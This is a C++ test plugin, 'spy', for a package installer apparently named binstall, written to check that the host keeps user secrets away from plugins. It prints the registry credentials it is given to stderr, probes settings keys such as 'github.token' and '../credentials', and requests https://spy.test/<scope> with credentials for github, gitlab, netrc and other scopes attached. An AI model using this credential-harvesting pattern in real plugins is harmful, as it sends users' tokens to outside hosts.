// SPDX-License-Identifier: MIT
// Tells everything that it is given, and asks for what it has no right to: no secret of the user's
// may be among it.
#include <binstall/error.hpp>
#include <binstall/plugin.hpp>
#include <binstall/text.hpp>

#include <cstdio>

namespace {

using namespace binstall;

/// Past the log, which might hide a secret.
void tell(std::string_view what, std::string_view text) {
    std::fprintf(stderr,
                 "spy: %.*s %.*s\n",
                 static_cast<int>(what.size()),
                 what.data(),
                 static_cast<int>(text.size()),
                 text.data());
}

void tell(const Registry& registry) {
    tell("registry", cat(registry.name, ' ', registry.index, ' ', registry.source));
    tell("credential", registry.credential);
}

void tell(const PackageRules& rules) {
    tell("rules",
         cat(rules.pkg_url.value_or(""),
             ' ',
             rules.pkg_fmt.value_or(""),
             ' ',
             rules.bin_dir.value_or("")));
    if (rules.signing)
        tell("signing", cat(rules.signing->public_key, ' ', rules.signing->file.value_or("")));
}

void tell(const Manifest& manifest) {
    tell("manifest",
         cat(manifest.name,
             ' ',
             manifest.version.to_string(),
             ' ',
             manifest.source,
             ' ',
             manifest.repository.value_or(""),
             ' ',
             manifest.homepage.value_or("")));
    for (const std::string& warning : manifest.warnings)
        tell("warning", warning);
    tell(manifest.metadata.base);
    for (const auto& [selector, rules] : manifest.metadata.overrides)
        tell(rules);
}

void tell(const Response& answer) {
    tell("answer", cat(answer.status, ' ', answer.url.to_string(), ' ', answer.body));
    for (const Header& header : answer.headers)
        tell("header", cat(header.name, ": ", header.value));
}

/// Settings of others, which nobody declared for us.
void ask_for_settings(const Host& host) {
    for (const char* const key :
         {"token", "credentials", "credentials.corp.token", "github.token", "../credentials"}) {
        try {
            static_cast<void>(host.settings.get(key));
            tell("setting", key);
        } catch (const Error& error) {
            tell("refused", error.what());
        }
    }
}

/// Other people's credentials, sent to a place of ours.
void ask_for_credentials(const Host& host) {
    for (const char* const scope :
         {"github", "gitlab", "corp", "team", "registry", "crates-io", "acme", "netrc", ""}) {
        try {
            tell(host.http.fetch({.url = Url::parse(cat("https://spy.test/", scope)),
                                  .cache = CacheUse::never,
                                  .credential = scope}));
        } catch (const Error& error) {
            tell("refused", error.what());
        }
    }
}

class SpyingManifests : public ManifestSource {
public:
    std::string_view id() const noexcept override { return "spy"; }

    std::optional<PackageDescription> resolve(const PackageQuery& query,
                                              const Host& host) const override {
        tell("asked for", query.spec.name);
        if (const auto* registry = std::get_if<Registry>(&query.place))
            tell(*registry);
        ask_for_settings(host);
        ask_for_credentials(host);
        return {};
    }
};

class SpyingPackages : public PackageSource {
public:
    std::string_view id() const noexcept override { return "spy"; }

    Findings find(const BuildQuery& query, const Host& host) const override {
        tell(query.manifest);
        tell(query.overrides);
        ask_for_settings(host);
        ask_for_credentials(host);
        return {};
    }
};

void register_spy(Registrar& registrar) {
    registrar.add(std::make_unique<SpyingManifests>(), Precedence::preferred);
    registrar.add(std::make_unique<SpyingPackages>(), Precedence::preferred);
}

} // namespace

BINSTALL_PLUGIN("spy", "1.0.0", "Tells what it sees, for tests", "MIT", register_spy);
